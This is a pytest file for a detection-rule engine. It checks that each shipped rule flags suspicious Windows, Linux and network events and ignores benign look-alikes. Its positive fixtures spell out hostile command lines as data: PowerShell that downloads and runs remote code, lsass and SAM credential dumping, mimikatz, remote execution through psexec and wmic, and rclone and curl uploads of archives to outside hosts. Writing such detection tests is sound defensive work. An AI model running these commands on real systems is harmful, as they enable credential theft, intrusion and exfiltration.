"""Each rule we ship finds what it is for and leaves alone what only looks like it."""

from __future__ import annotations

from collections import Counter
from importlib import resources
from typing import Any

import pytest
import yaml

from detectors.sigma.engine import Engine
from pipeline.rules import load_rules
from schemas.event import Source
from schemas.severity import Severity
from tests.sigma import SYSMON, event

PROCESS = Source("windows", "", SYSMON, 1)
ACCESS = Source("windows", "", SYSMON, 10)
CONNECTION = Source("windows", "", SYSMON, 3)
SSHD = Source("linux", "", "sshd", 0)
SUDO = Source("linux", "", "sudo", 0)
AUDITD = Source("linux", "", "auditd", 0)
ALERT = Source("suricata", "ids", "alert", 0)
FLOW = Source("suricata", "", "flow", 0)


def _security(number: int) -> Source:
    return Source("windows", "", "security", number)


def _system(number: int) -> Source:
    return Source("windows", "", "system", number)


S32 = "C:\\Windows\\System32\\"
OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
SERVICES = "Service Control Manager"

Fields = dict[str, Any]
#: rule → (source, records that it finds, records that it leaves alone)
CASES: dict[str, tuple[Source, list[Fields], list[Fields]]] = {
    "office_starts_interpreter": (
        PROCESS,
        [
            {"ParentImage": OFFICE + "WINWORD.EXE", "Image": S32 + "cmd.exe"},
            {"ParentImage": OFFICE + "excel.exe", "Image": S32 + "WindowsPowerShell\\v1.0\\PowerShell.exe"},
        ],
        [
            {"ParentImage": OFFICE + "WINWORD.EXE", "Image": "C:\\Windows\\splwow64.exe"},
            {"ParentImage": "C:\\Windows\\explorer.exe", "Image": S32 + "cmd.exe"},
        ],
    ),
    "powershell_fetches_code": (
        PROCESS,
        [
            {"Image": S32 + "powershell.exe", "CommandLine": "powershell.exe -NoP -w hidden -enc SQBFAFgA"},
            {"Image": S32 + "powershell.exe", "CommandLine": "powershell /EncodedCommand SQBFAFgA"},
            {
                "Image": S32 + "powershell.exe",
                "CommandLine": "powershell IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')",
            },
        ],
        [
            {
                "Image": S32 + "powershell.exe",
                "CommandLine": "powershell -File C:\\Admin\\Inventory.ps1 -Encoding utf8",
            },
            {"Image": S32 + "powershell.exe", "CommandLine": "powershell Invoke-WebRequest http://wsus.local/health"},
        ],
    ),
    "lsass_memory_opened": (
        ACCESS,
        [{"SourceImage": "C:\\Users\\Public\\upd.exe", "TargetImage": S32 + "lsass.exe", "GrantedAccess": "0x1410"}],
        [
            {"SourceImage": "C:\\Users\\Public\\upd.exe", "TargetImage": S32 + "lsass.exe", "GrantedAccess": "0x1000"},
            {
                "SourceImage": "C:\\Program Files\\Scanner\\avp.exe",
                "TargetImage": S32 + "lsass.exe",
                "GrantedAccess": "0x1410",
            },
            {"SourceImage": S32 + "svchost.exe", "TargetImage": S32 + "lsass.exe", "GrantedAccess": "0x1410"},
            {
                "SourceImage": "C:\\Users\\Public\\upd.exe",
                "TargetImage": S32 + "winlogon.exe",
                "GrantedAccess": "0x1410",
            },
        ],
    ),
    "credentials_dumped": (
        PROCESS,
        [
            {"Image": S32 + "rundll32.exe", "CommandLine": "rundll32 comsvcs.dll, MiniDump 712 C:\\d.bin full"},
            {"Image": "C:\\t\\procdump64.exe", "CommandLine": "procdump64 /ma lsass.exe out.dmp"},
            {"Image": S32 + "reg.exe", "CommandLine": "reg save HKLM\\SAM C:\\sam.hiv"},
            {"Image": S32 + "ntdsutil.exe", "CommandLine": 'ntdsutil "ac i ntds" "ifm" "create full c:\\t" q q'},
            {"Image": "C:\\t\\m.exe", "CommandLine": "m.exe privilege::debug sekurlsa::logonpasswords"},
        ],
        [
            {"Image": S32 + "reg.exe", "CommandLine": "reg save HKLM\\SOFTWARE\\Bank C:\\b.hiv"},
            {"Image": S32 + "reg.exe", "CommandLine": "reg query HKLM\\SAM"},
            {"Image": "C:\\t\\procdump64.exe", "CommandLine": "procdump64 -ma abs.exe out.dmp"},
        ],
    ),
    "service_runs_command": (
        _system(7045),
        [
            {
                "EventID": 7045,
                "Provider_Name": SERVICES,
                "ServiceName": "PSEXESVC",
                "ImagePath": "%SystemRoot%\\PSEXESVC.exe",
            },
            {
                "EventID": 7045,
                "Provider_Name": SERVICES,
                "ServiceName": "x",
                "ImagePath": "\\\\127.0.0.1\\ADMIN$\\x.exe",
            },
            {"EventID": 7045, "Provider_Name": SERVICES, "ServiceName": "y", "ImagePath": "%COMSPEC% /Q /c echo 1"},
        ],
        [
            {
                "EventID": 7045,
                "Provider_Name": SERVICES,
                "ServiceName": "klnagent",
                "ImagePath": '"C:\\Program Files\\k.exe"',
            }
        ],
    ),
    "explicit_credentials_to_payment": (
        _security(4648),
        [{"EventID": 4648, "TargetServerName": "pay-gw-01.alatau.local", "SubjectUserSid": "S-1-5-21-1-2-3-1104"}],
        [
            {"EventID": 4648, "TargetServerName": "srv-fs-01", "SubjectUserSid": "S-1-5-21-1-2-3-1104"},
            {"EventID": 4648, "TargetServerName": "pay-gw-01", "SubjectUserSid": "S-1-5-18"},
        ],
    ),
    "remote_execution_tool": (
        PROCESS,
        [
            {
                "Image": S32 + "wbem\\WMIC.exe",
                "CommandLine": 'wmic /node:srv-app-05 process call create "cmd /c whoami"',
            },
            {"Image": "C:\\t\\PsExec64.exe", "CommandLine": "psexec64 \\\\srv-app-05 -s cmd"},
            {"Image": S32 + "winrs.exe", "CommandLine": "winrs -r:srv-app-05 whoami"},
            {"Image": S32 + "schtasks.exe", "CommandLine": "schtasks /create /tn x /s srv-app-05 /tr c.exe"},
            {"Image": S32 + "cmd.exe", "ParentImage": "C:\\Windows\\PSEXESVC.exe", "CommandLine": "cmd"},
        ],
        [
            {"Image": S32 + "wbem\\WMIC.exe", "CommandLine": "wmic process list brief"},
            {"Image": S32 + "schtasks.exe", "CommandLine": "schtasks /query /fo LIST"},
            {"Image": S32 + "cmd.exe", "ParentImage": "C:\\Windows\\explorer.exe", "CommandLine": "cmd"},
        ],
    ),
    "payment_server_reached": (
        CONNECTION,
        [
            {
                "Initiated": "true",
                "DestinationHostname": "pay-gw-01",
                "DestinationPort": port,
                "Image": "C:\\Users\\Public\\plink.exe",
            }
            for port in (22, "22", 3389)
        ],
        [
            {"Initiated": "true", "DestinationHostname": "pay-gw-01", "DestinationPort": 443, "Image": "C:\\x.exe"},
            {
                "Initiated": "true",
                "DestinationHostname": "abs-core-02",
                "DestinationPort": 1521,
                "Image": "C:\\a\\abs.exe",
            },
            {"Initiated": "false", "DestinationHostname": "pay-gw-01", "DestinationPort": 22, "Image": "C:\\x.exe"},
            {"Initiated": "true", "DestinationHostname": "mail-01", "DestinationPort": 22, "Image": "C:\\x.exe"},
        ],
    ),
    "payment_gateway_password_login": (
        SSHD,
        [{"message": "Accepted password for payadm from 10.20.0.27 port 50122 ssh2", "hostname": "pay-gw-01"}],
        [
            {"message": "Accepted publickey for payadm from 10.20.0.27 port 50122 ssh2", "hostname": "pay-gw-01"},
            {"message": "Failed password for payadm from 10.20.0.27 port 50122 ssh2", "hostname": "pay-gw-01"},
            {"message": "Accepted password for ops from 10.20.0.27 port 50122 ssh2", "hostname": "lnx-03"},
        ],
    ),
    "ssh_root_login": (
        SSHD,
        [{"message": "Accepted publickey for root from 10.20.0.27 port 50122 ssh2"}],
        [
            {"message": "Accepted publickey for rooter from 10.20.0.27 port 50122 ssh2"},
            {"message": "Failed password for root from 10.20.0.27 port 50122 ssh2"},
        ],
    ),
    "sudo_opens_secrets": (
        SUDO,
        [
            {"message": "payadm : TTY=pts/0 ; PWD=/home/payadm ; USER=root ; COMMAND=/usr/bin/cat /etc/shadow"},
            {"message": "payadm : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/bash"},
            {"message": "payadm : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/sbin/tcpdump -w /tmp/a"},
        ],
        [
            {"message": "ops : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx"},
            {"message": "pam_unix(sudo:session): session opened for user root; /etc/shadow"},
        ],
    ),
    "audit_reads_secrets": (
        AUDITD,
        [{"type": "PATH", "name": "/etc/shadow"}, {"type": "PATH", "name": "/opt/payments/keys/hsm.pem"}],
        [{"type": "PATH", "name": "/etc/hosts"}, {"type": "SYSCALL", "name": "/etc/shadow"}],
    ),
    "audit_stopped": (
        AUDITD,
        [
            {"type": "DAEMON_END"},
            {"type": "CONFIG_CHANGE", "op": "remove_rule"},
            {"type": "CONFIG_CHANGE", "audit_enabled": "0"},
        ],
        [{"type": "CONFIG_CHANGE", "op": "add_rule"}, {"type": "CONFIG_CHANGE", "audit_enabled": "1"}],
    ),
    "security_log_cleared": (_security(1102), [{"EventID": 1102}], []),
    "event_log_cleared": (
        _system(104),
        [{"EventID": 104, "Provider_Name": "Microsoft-Windows-Eventlog"}],
        [{"EventID": 104, "Provider_Name": "SomeDriver"}],
    ),
    "upload_tool": (
        PROCESS,
        [
            {"Image": "C:\\t\\rclone.exe", "CommandLine": "rclone.exe copy D:\\out mega:out --config r.conf"},
            {"Image": "C:\\t\\svc.exe", "OriginalFileName": "rclone.exe", "CommandLine": "svc sync a b"},
            {"Image": S32 + "curl.exe", "CommandLine": "curl.exe -T out.7z https://files.example/u"},
            {"Image": S32 + "curl.exe", "CommandLine": "curl --upload-file=out.7z https://files.example/u"},
        ],
        [
            {"Image": S32 + "curl.exe", "CommandLine": "curl https://files.example/u"},
            {"Image": S32 + "curl.exe", "CommandLine": "curl -T a http://localhost:8080/"},
            {"Image": "C:\\t\\rclone.exe", "CommandLine": "rclone version"},
        ],
    ),
    "large_upload": (
        FLOW,
        [
            {
                "event_type": "flow",
                "src_ip": "10.40.2.1",
                "dest_ip": "203.0.113.77",
                "flow": {"bytes_toserver": 480_000_000},
            }
        ],
        [
            {
                "event_type": "flow",
                "src_ip": "10.4.2.1",
                "dest_ip": "10.5.1.1",
                "flow": {"bytes_toserver": 480_000_000},
            },
            {"event_type": "flow", "src_ip": "10.4.2.1", "dest_ip": "203.0.113.77", "flow": {"bytes_toserver": 4_800}},
            {
                "event_type": "flow",
                "src_ip": "8.8.8.8",
                "dest_ip": "203.0.113.7",
                "flow": {"bytes_toserver": 480_000_000},
            },
        ],
    ),
    "ids_alert_severe": (
        ALERT,
        [{"event_type": "alert", "alert": {"severity": 1, "action": "allowed"}}],
        [
            {"event_type": "alert", "alert": {"severity": 2, "action": "allowed"}},
            {"event_type": "alert", "alert": {"severity": 1, "action": "blocked"}},
        ],
    ),
}

LOADED = load_rules(())


@pytest.mark.parametrize("name", CASES)
def test_a_rule_finds_its_cases_and_leaves_the_others_alone(name: str) -> None:
    source, positive, negative = CASES[name]
    (rule,) = [rule for rule in LOADED.rules if rule.file == f"shipped/{name}.yml"]
    engine = Engine([rule])
    assert [bool(engine.match([event(fields, source)])) for fields in positive] == [True] * len(positive)
    assert [bool(engine.match([event(fields, source)])) for fields in negative] == [False] * len(negative)


def test_every_rule_has_its_cases_and_its_line_in_the_readme() -> None:
    names = {rule.file.removeprefix("shipped/").removesuffix(".yml") for rule in LOADED.rules}
    assert names == set(CASES)
    readme = resources.files("detectors.sigma").joinpath("rules/README.md").read_text()
    assert [name for name in names if f"| `{name}` |" not in readme] == []


def test_every_rule_says_what_a_responder_needs() -> None:
    for entry in resources.files("detectors.sigma").joinpath("rules").iterdir():
        if entry.name.endswith(".yml"):
            said = yaml.safe_load(entry.read_text())
            assert {"id", "level", "status", "description", "tags"} <= set(said), entry.name
            assert any(tag.startswith("attack.t") for tag in said["tags"]) or "command-and-control" in str(said["tags"])


def test_every_stage_of_an_attack_has_a_rule_of_high_level() -> None:
    tactics = Counter(
        tag.removeprefix("attack.") for rule in LOADED.rules if rule.level >= Severity.HIGH for tag in rule.tags
    )
    for tactic in ("initial-access", "credential-access", "lateral-movement", "collection", "exfiltration"):
        assert tactics[tactic], tactic
